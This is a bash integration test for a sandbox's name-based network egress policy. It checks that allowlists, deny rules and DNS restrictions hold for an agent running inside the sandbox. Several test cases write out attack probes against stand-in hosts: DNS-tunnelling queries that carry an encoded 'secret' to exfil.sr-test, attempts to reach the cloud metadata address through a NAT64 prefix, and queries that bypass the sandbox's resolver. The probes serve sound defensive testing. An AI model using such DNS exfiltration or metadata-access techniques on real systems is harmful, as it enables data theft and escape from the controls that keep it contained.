#!/usr/bin/env bash
# Egress by name (docs/network.md, "Names"): the sandbox's DNS is
# sandbox-run's resolver, which answers allowed names only and opens
# each answer's addresses in the policy before the agent gets it; no
# other DNS gets out; --deny by name; --allow-host; the egress record.
#
# Everything happens in namespaces this script creates (libnet.sh): A,
# where sandbox-run runs, and B, "the internet", with the test hosts, a
# marker listener on every address and the tests' own DNS server, whose
# log says what reached the "upstream". No fixed names: no lock needed.
. "$(dirname "$0")/libtest.sh"
. "$(dirname "$0")/libnet.sh"

net_need

PORT=8080
OTHER_PORT=8081
API=198.51.100.10
CDN=198.51.100.11
MOVED=198.51.100.12
EVIL=203.0.113.5
SECRET=203.0.113.6
WS="$SR_TMP/ws"
# IPv6 test hosts: public (documentation prefix), a ULA, the metadata
# address, 169.254.169.254 behind the NAT64 prefix.
API6=2001:db8:b::10
EVIL6=2001:db8:b::66
ULA6=fd12::5
META6=fd00:ec2::254
NAT64=64:ff9b::a9fe:a9fe

setup_network() {
	net_up && net_addr "$API" "$CDN" "$MOVED" "$EVIL" "$SECRET" && net_dns || return 1
	if [ -n "$NET_V6" ]; then
		net_addr "$API6" "$EVIL6" "$ULA6" "$META6" "$NAT64" || return 1
	fi
	net_listen "$PORT" && net_listen "$OTHER_PORT" || return 1
	mkdir -p "$WS"
	cp "$SR_SRCDIR/tests/integration/dnsq.py" "$WS/"
	chmod -R a+rX "$WS"
	zone_default
}

zone_default() {
	local big=() long=("long.sr-test CNAME l1.sr-test") i
	for i in $(seq 1 100); do big+=("big.sr-test A 198.51.100.$((100 + i % 100))"); done
	# Nine names, the last denied: one more than the resolver follows.
	for i in $(seq 1 6); do long+=("l$i.sr-test CNAME l$((i + 1)).sr-test"); done
	long+=("l7.sr-test CNAME evil.sr-test")
	net_zone "api.sr-test A $API 30" "www.sr-test CNAME edge.cdn.sr-net" \
		"edge.cdn.sr-net A $CDN 5" "a.wild.sr-test A $CDN" "x.y.wild.sr-test A $API" \
		"wild.sr-test A $API" "evil.sr-test A $EVIL" "secret.sr-test A $SECRET" \
		"leak.sr-test CNAME secret.sr-test" "moving.sr-test A $API 1" \
		"api.sr-test TXT allowed-text" "dup.sr-test A $API" "dup.sr-test A $API" \
		"api6.sr-test AAAA $API6" "a.v6.sr-test AAAA $API6" "evil6.sr-test AAAA $EVIL6" \
		"ula6.sr-test AAAA $ULA6" "meta6.sr-test AAAA $META6" "nat64.sr-test AAAA $NAT64" \
		"both.sr-test A $API" "both.sr-test AAAA $API6" "${long[@]}" "${big[@]}"
}

CURL='curl -sS -m 5'
# q [--tcp] NAME TYPE: a query to the sandbox's resolver, from inside.
Q='python3 /workspace/dnsq.py'

t_allowed_name() {
	: >"$NET_DNS_LOG"
	sr_a --net egress --allow api.sr-test -- $CURL "http://api.sr-test:$PORT/"
	assert_eq "an allowed name resolves and connects" "sr-marker B $API" "$out"
	sr_a --net egress --allow www.sr-test -- $CURL "http://www.sr-test:$PORT/"
	assert_eq "an allowed name behind a CNAME: its target's address connects" \
		"sr-marker B $CDN" "$out"
	sr_a --net egress --allow api.sr-test -- cat /etc/resolv.conf
	assert_match "resolv.conf names the sandbox's resolver" "^nameserver 127.0.0.53" "$out"
	sr_a --net egress --allow dup.sr-test -- $CURL "http://dup.sr-test:$PORT/"
	assert_eq "an answer that repeats an address" "sr-marker B $API" "$out"
}

t_not_allowed() {
	: >"$NET_DNS_LOG"
	sr_a --net egress --allow api.sr-test -- sh -c \
		"getent hosts evil.sr-test; echo getent=\$?; $CURL http://$EVIL:$PORT/; echo curl=\$?"
	assert_match "a name not allowed does not resolve" "getent=2" "$out"
	assert_match "its address does not connect, dialled directly" "curl=7" "$out"
	assert_no_match "and nothing answered" "sr-marker" "$out"
	check "the name never reached the upstream" bash -c "! grep -q '^evil.sr-test ' $NET_DNS_LOG"
	sr_a --net egress --allow api.sr-test -- $CURL "http://$API:$PORT/"
	assert_eq "an allowed name's address, not resolved first, does not connect" 7 "$rc"
}

t_wildcard() {
	: >"$NET_DNS_LOG"
	sr_a --net egress --allow '*.wild.sr-test' -- sh -c \
		"$CURL http://a.wild.sr-test:$PORT/; $CURL http://x.y.wild.sr-test:$PORT/; getent hosts wild.sr-test; echo getent=\$?"
	assert_match "a wildcard: a name beneath it connects" "sr-marker B $CDN" "$out"
	assert_match "a name two levels beneath it too" "sr-marker B $API" "$out"
	assert_match "the wildcard's own name does not resolve" "getent=2" "$out"
	check "and never reached the upstream" bash -c "! grep -q '^wild.sr-test ' $NET_DNS_LOG"
	sr_a --net egress --allow '*.wild.sr-test:'$OTHER_PORT -- sh -c \
		"$CURL http://a.wild.sr-test:$OTHER_PORT/; $CURL http://a.wild.sr-test:$PORT/; echo curl=\$?"
	assert_match "a wildcard with a port opens that port" "sr-marker B $CDN" "$out"
	assert_match "and not another" "curl=7" "$out"
}

# The name moves while the agent runs: the new address connects once
# resolved again, and was refused before.
t_address_change() {
	net_zone "moving.sr-test A $API 1"
	(sleep 1 && net_zone "moving.sr-test A $MOVED 1") &
	SR_BG_PIDS="${SR_BG_PIDS:-} $!"
	sr_a --net egress --allow moving.sr-test -- sh -c \
		"$CURL http://$MOVED:$PORT/; echo before=\$?; $CURL http://moving.sr-test:$PORT/; sleep 2; $CURL http://moving.sr-test:$PORT/"
	assert_match "the address it moves to is refused before it is resolved" "before=7" "$out"
	assert_match "the first address connects" "sr-marker B $API" "$out"
	assert_match "after the move, the new address connects once resolved again" \
		"sr-marker B $MOVED" "$out"
	zone_default
}

# No DNS but the resolver's: another server, over UDP, TCP or TLS, the
# helper's own, even an address allowed outright.
t_dns_elsewhere() {
	: >"$NET_DNS_LOG"
	sr_a --net egress --allow api.sr-test --allow "$NET_DNS" --workspace "$WS" -- sh -c \
		"$Q $NET_DNS direct.sr-test 1; $Q --tcp $NET_DNS direct.sr-test 1; $Q 10.0.2.3 direct.sr-test 1; $CURL https://$NET_DNS:853/; echo dot=\$?"
	assert_match "UDP DNS to another server is refused" "^error=(PermissionError|ConnectionRefusedError)" "$out"
	assert_eq "TCP DNS to another server is refused" "error=ConnectionRefusedError" "$(sed -n 2p <<<"$out")"
	assert_match "the helper's resolver too" "error=(PermissionError|ConnectionRefusedError)" "$(sed -n 3p <<<"$out")"
	assert_match "DNS over TLS (853) too" "dot=7" "$out"
	check "nothing of it reached the server" bash -c "! grep -q '^direct.sr-test ' $NET_DNS_LOG"
	sr_a --net egress --allow api.sr-test --workspace "$WS" -- sh -c \
		"$Q --tcp 127.0.0.53 api.sr-test 1"
	assert_eq "DNS over TCP to the sandbox's resolver answers an allowed name" \
		"rcode=0 an=1 tc=0 $API" "$out"
	# glibc over TCP sends its A and AAAA queries together, then reads: the
	# second was taken only once more bytes came, and none did (10 s, then
	# nothing resolved).
	sr_a --net egress --allow both.sr-test -- sh -c \
		"RES_OPTIONS=use-vc getent ahosts both.sr-test"
	assert_match "glibc over TCP, two queries at once: both answered" \
		"$API +STREAM both.sr-test" "$out"
	# The same two, then the client's side shut: the second was lost,
	# the client's end read (and the client closed) before the query
	# that waited beside it was taken.
	local pair='import socket, struct
def q(i, t):
    m = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + b"\4both\7sr-test\0" + struct.pack(">HH", t, 1)
    return struct.pack(">H", len(m)) + m
s = socket.create_connection(("127.0.0.53", 53), 5)
s.sendall(q(1, 1) + q(2, 28))
s.shutdown(socket.SHUT_WR)
buf = b""
while True:
    d = s.recv(4096)
    if not d:
        break
    buf += d
n = 0
while len(buf) >= 2:
    buf = buf[2 + struct.unpack(">H", buf[:2])[0]:]
    n += 1
print("answers=%d" % n)'
	sr_a --net egress --allow both.sr-test -- python3 -c "$pair"
	assert_eq "two queries over TCP, then the client's side shut: both answered" \
		"answers=2" "$out"
}

# What a name not allowed gets: nothing, whatever the type or size; the
# upstream never hears of it. An allowed name's other types are answered.
t_exfiltration() {
	local long
	long=$(printf 'a%.0s' $(seq 60)).$(printf 'b%.0s' $(seq 60)).$(printf 'c%.0s' $(seq 60)).exfil.sr-test
	: >"$NET_DNS_LOG"
	sr_a --net egress --allow api.sr-test --workspace "$WS" -- sh -c \
		"$Q 127.0.0.53 c2VjcmV0.exfil.sr-test 16; $Q 127.0.0.53 $long 16; $Q --tcp 127.0.0.53 $long 1; $Q 127.0.0.53 api.sr-test 16"
	assert_eq "a TXT query for a name not allowed: REFUSED, no answer" "rcode=5 an=0 tc=0" \
		"$(sed -n 1p <<<"$out")"
	assert_eq "a 200-byte name: REFUSED" "rcode=5 an=0 tc=0" "$(sed -n 2p <<<"$out")"
	assert_eq "over TCP too" "rcode=5 an=0 tc=0" "$(sed -n 3p <<<"$out")"
	check "none of them reached the upstream" bash -c "! grep -q 'exfil.sr-test ' $NET_DNS_LOG"
	assert_eq "a TXT query for an allowed name is answered" "rcode=0 an=1 tc=0" \
		"$(sed -n 4p <<<"$out")"
}

t_deny() {
	: >"$NET_DNS_LOG"
	sr_a --net egress --allow '*.sr-test' --deny secret.sr-test --deny '*.wild.sr-test' -- sh -c \
		"$CURL http://api.sr-test:$PORT/; getent hosts secret.sr-test; echo secret=\$?; getent hosts a.wild.sr-test; echo wild=\$?; getent hosts leak.sr-test; echo leak=\$?; $CURL http://$SECRET:$PORT/; echo direct=\$?"
	assert_match "--deny beside a wildcard allow: the others resolve" "sr-marker B $API" "$out"
	assert_match "--deny NAME beats '*.NAME' allowed" "secret=2" "$out"
	assert_match "--deny '*.NAME' beats it too" "wild=2" "$out"
	assert_match "an allowed name whose CNAME leads to a denied one: refused" "leak=2" "$out"
	assert_match "the denied name's address does not connect" "direct=7" "$out"
	# (secret.sr-test did, once, from sandbox-run: a denied name's addresses at start are
	# refused by address too.)
	check "a name denied by wildcard never reached the upstream" \
		bash -c "! grep -q '^a.wild.sr-test ' $NET_DNS_LOG"
	# Default mode: every name but the denied ones; still no other DNS.
	sr_a --net egress --deny evil.sr-test --workspace "$WS" -- sh -c \
		"getent hosts evil.sr-test; echo evil=\$?; getent hosts long.sr-test; echo long=\$?; getent hosts api.sr-test; $Q $NET_DNS evil.sr-test 1"
	assert_match "--deny NAME alone: that name does not resolve" "evil=2" "$out"
	assert_match "nor a CNAME chain to it longer than the resolver follows" "long=2" "$out"
	assert_no_match "whose end (its canonical name) it would have given" "$EVIL +evil.sr-test" "$out"
	assert_match "others do" "$API +api.sr-test" "$out"
	assert_match "and other DNS is refused" "error=(PermissionError|ConnectionRefusedError)" "$out"
}

# A large answer: truncated over UDP, whole over TCP; glibc retries by itself.
t_large_answer() {
	sr_a --net egress --allow big.sr-test --workspace "$WS" -- sh -c \
		"$Q 127.0.0.53 big.sr-test 1 | cut -d' ' -f1-3; $Q --tcp 127.0.0.53 big.sr-test 1 | cut -d' ' -f1-3; getent ahostsv4 big.sr-test | wc -l"
	assert_eq "a large answer over UDP is truncated" "rcode=0 an=0 tc=1" "$(sed -n 1p <<<"$out")"
	assert_eq "over TCP it comes whole" "rcode=0 an=100 tc=0" "$(sed -n 2p <<<"$out")"
}

# One port of the host's loopback, at 10.0.2.2; nothing else of the host.
t_allow_host() {
	local helper
	for helper in slirp4netns pasta; do
		if ! command -v "$helper" >/dev/null; then
			skip "--allow-host through $helper" "$helper is not installed"
			continue
		fi
		sr_a --net egress --net-helper "$helper" --allow-host "$PORT" -- sh -c \
			"$CURL http://10.0.2.2:$PORT/; $CURL http://10.0.2.2:$OTHER_PORT/; echo other=\$?; $CURL http://$NET_A_IP:$PORT/; echo host=\$?"
		assert_eq "$helper: --allow-host PORT reaches the host's 127.0.0.1:PORT at 10.0.2.2" \
			"sr-marker A 127.0.0.1" "$(sed -n 1p <<<"$out")"
		assert_match "$helper: another port of the host's loopback stays refused" "other=7" "$out"
		assert_match "$helper: and the host's other addresses" "host=7" "$out"
		sr_a --net egress --net-helper "$helper" --allow api.sr-test --allow-host "$PORT" -- \
			$CURL "http://10.0.2.2:$PORT/"
		assert_eq "$helper: --allow-host with an allowlist" "sr-marker A 127.0.0.1" "$out"
	done
	sr_a --net egress -- $CURL "http://10.0.2.2:$PORT/"
	assert_eq "without --allow-host the host's loopback is refused" 7 "$rc"
	sr_a --net egress --allow "10.0.2.2:$PORT" -- true
	assert_eq "--allow 10.0.2.2:PORT: refused at start" 125 "$rc"
	assert_match "saying to use --allow-host" "use --allow-host $PORT \(the sandbox reaches it at 10.0.2.2:$PORT\)" "$errout"
	sr_a --net egress --allow "127.0.0.1:$PORT" -- true
	assert_match "--allow 127.0.0.1:PORT: the same" "loopback is its own, not the host's; .* use --allow-host $PORT" "$errout"
	sr_a --net egress --allow localhost -- true
	assert_match "--allow localhost: the same" "^sandbox-run: --allow localhost: .*--allow-host PORT" "$errout"
	sr_a --net egress --allow "[fd00::2]:$PORT" -- true
	assert_match "--allow the IPv6 gateway: the same" "^sandbox-run: --allow \[fd00::2\]:$PORT: the network helper's address for the host" "$errout"
}

# What the policy stopped, in the record and at -v.
t_record() {
	local f="$SR_OUT/names-$SR_AS.json"
	sr_a -v --net egress --allow api.sr-test --result "$f" -- sh -c \
		"$CURL http://api.sr-test:$PORT/ >/dev/null; getent hosts evil.sr-test; $CURL http://$EVIL:$PORT/; $CURL http://$EVIL:$PORT/; $CURL http://10.0.2.2:$OTHER_PORT/; true"
	assert_eq "the record lists the allowed names the agent resolved" '["api.sr-test"]' \
		"$(json_get "$f" network.allowed_names)"
	assert_match "and each refused destination with its count" \
		"\{\"dest\": \"$EVIL:$PORT\", \"proto\": \"tcp\", \"count\": 2\}" \
		"$(json_get "$f" network.refused)"
	assert_match "the gateway's port too" "\{\"dest\": \"10.0.2.2:$OTHER_PORT\", \"proto\": \"tcp\", \"count\": 1\}" \
		"$(json_get "$f" network.refused)"
	assert_match "and each refused name with its count" "\{\"name\": \"evil.sr-test\", \"count\": [0-9]+\}" \
		"$(json_get "$f" network.refused)"
	assert_eq "nothing left out" false "$(json_get "$f" network.truncated)"
	assert_match "-v: one line per refused destination" "sandbox-run: refused: $EVIL:$PORT/tcp \(2 packets\)" "$errout"
	assert_match "-v: and per refused name" "sandbox-run: refused name: evil.sr-test" "$errout"
	sr_a --net egress --result "$f" -- true
	assert_eq "a run that tried nothing: an empty record" '{"allowed_names": [], "refused": [], "truncated": false}' \
		"$(json_get "$f" network)"
}

# The same refusals and allows over IPv6, through each helper.
t_ipv6() {
	local helper C6='curl -sS -m 5 -g'
	if [ -z "$NET_V6" ]; then
		skip "IPv6 mirrors IPv4" "the kernel here has no IPv6 (ip -6 addr add failed)"
		return
	fi
	for helper in slirp4netns pasta; do
		local SR_TAG="IPv6, $helper: "
		if ! command -v "$helper" >/dev/null; then
			skip "IPv6" "$helper is not installed"
			continue
		fi
		sr_a --net egress --net-helper "$helper" -- sh -c \
			"$C6 http://[$API6]:$PORT/; for a in $ULA6 $META6 $NAT64 fe80::1%eth0; do $C6 http://[\$a]:$PORT/; echo \$a=\$?; done"
		assert_eq "default mode: a public address connects" "sr-marker B $API6" "$(sed -n 1p <<<"$out")"
		assert_match "a ULA is refused at once" "$ULA6=7" "$out"
		assert_match "the IPv6 metadata address too" "$META6=7" "$out"
		assert_match "169.254.169.254 behind the NAT64 prefix too" "$NAT64=7" "$out"
		assert_match "and link-local" "fe80::1%eth0=7" "$out"
		assert_no_match "nothing refused answered" "sr-marker B ($ULA6|$META6|$NAT64)" "$out"
		sr_a --net egress --net-helper "$helper" --allow api6.sr-test --allow '*.v6.sr-test' \
			--allow ula6.sr-test --allow meta6.sr-test --allow nat64.sr-test -- sh -c \
			"$C6 http://api6.sr-test:$PORT/; $C6 http://a.v6.sr-test:$PORT/; getent hosts evil6.sr-test; echo getent=\$?; $C6 http://[$EVIL6]:$PORT/; echo direct=\$?; for n in ula6 meta6 nat64; do $C6 http://\$n.sr-test:$PORT/; echo \$n=\$?; done"
		assert_eq "an allowed name's AAAA connects" "sr-marker B $API6" "$(sed -n 1p <<<"$out")"
		assert_eq "a wildcard's too" "sr-marker B $API6" "$(sed -n 2p <<<"$out")"
		assert_match "a name not allowed does not resolve" "getent=2" "$out"
		assert_match "its address does not connect, dialled directly" "direct=7" "$out"
		assert_match "a name resolving to a ULA is refused" "ula6=7" "$out"
		assert_match "one resolving to the metadata address too" "meta6=7" "$out"
		assert_match "one resolving behind the NAT64 prefix too" "nat64=7" "$out"
		sr_a --net egress --net-helper "$helper" --allow '*.v6.sr-test' --deny a.v6.sr-test -- \
			sh -c "getent hosts a.v6.sr-test; echo getent=\$?"
		assert_match "--deny beats a wildcard" "getent=2" "$out"
		sr_a --net egress --net-helper "$helper" --allow "[$API6]:$PORT" -- sh -c \
			"$C6 http://[$API6]:$PORT/; $C6 http://[$API6]:$OTHER_PORT/; echo other=\$?"
		assert_match "an address with a port, written out: that port" "sr-marker B $API6" "$out"
		assert_match "and not another" "other=7" "$out"
	done
	SR_TAG=""
	local f="$SR_OUT/names6-$SR_AS.json"
	sr_a --net egress --allow api6.sr-test --result "$f" -- $CURL -g "http://[$EVIL6]:$PORT/"
	assert_match "IPv6: the record lists a refused destination" \
		"\{\"dest\": \"\[$EVIL6\]:$PORT\", \"proto\": \"tcp\", \"count\": 1\}" \
		"$(json_get "$f" network.refused)"
	# A host without IPv6: the sandbox has none, its connections fail at once, IPv4 works.
	nsenter -t "$A_PID" -n ip -6 route del default
	sr_a --net egress --allow both.sr-test -- sh -c \
		"ip -6 addr show dev eth0 scope global; $CURL -g http://[$API6]:$PORT/; echo v6=\$?; $CURL http://both.sr-test:$PORT/"
	nsenter -t "$A_PID" -n ip -6 route add default via "$NET_B_IP6"
	assert_no_match "a host without IPv6: no IPv6 address in the sandbox" "inet6" "$out"
	assert_match "IPv6 destinations fail at once" "v6=7" "$out"
	assert_match "IPv4 works (a name with both)" "sr-marker B $API\$" "$out"
}

# A sandbox that lives: its execs share the resolver and the sets; each
# exec's record has the sandbox's network so far.
t_living() {
	local id f="$SR_OUT/names-exec-$SR_AS.json"
	sr_a create --net egress --allow api.sr-test --timeout 60s
	id=$out
	if [ "$rc" != 0 ] || [ -z "$id" ]; then
		not_ok "create a living sandbox with a name allowed (rc $rc)"
		return
	fi
	sr_a exec "$id" -- $CURL "http://api.sr-test:$PORT/"
	assert_eq "create + exec: an allowed name resolves and connects" "sr-marker B $API" "$out"
	sr_a exec --result "$f" "$id" -- sh -c \
		"getent hosts evil.sr-test; $CURL http://$EVIL:$PORT/; $CURL http://$API:$PORT/"
	assert_eq "a later exec reaches the address an earlier one resolved" "sr-marker B $API" "$out"
	assert_match "the exec's record: the sandbox's network so far" \
		"\"allowed_names\": \[\"api.sr-test\"\], \"refused\": \[\{\"dest\": \"$EVIL:$PORT\"" \
		"$(json_get "$f" network)"
	sr_a rm "$id"
	assert_eq "rm" 0 "$rc"
}

t_through_pasta() {
	local SR_TAG="pasta: "
	if ! command -v pasta >/dev/null; then
		skip "names through pasta" "pasta is not installed"
		return
	fi
	sr_a --net egress --net-helper pasta --allow api.sr-test -- sh -c \
		"$CURL http://api.sr-test:$PORT/; getent hosts evil.sr-test; echo getent=\$?; $CURL http://$EVIL:$PORT/; echo curl=\$?"
	assert_match "an allowed name resolves and connects" "sr-marker B $API" "$out"
	assert_match "a name not allowed does not resolve" "getent=2" "$out"
	assert_match "its address does not connect" "curl=7" "$out"
}

if ! setup_network; then
	not_ok "build the test network (namespaces A and B, the DNS server)"
	done_testing
	exit 1
fi
for_each_user t_allowed_name t_not_allowed t_wildcard t_address_change t_dns_elsewhere \
	t_exfiltration t_deny t_large_answer t_allow_host t_record t_ipv6 t_living t_through_pasta
done_testing
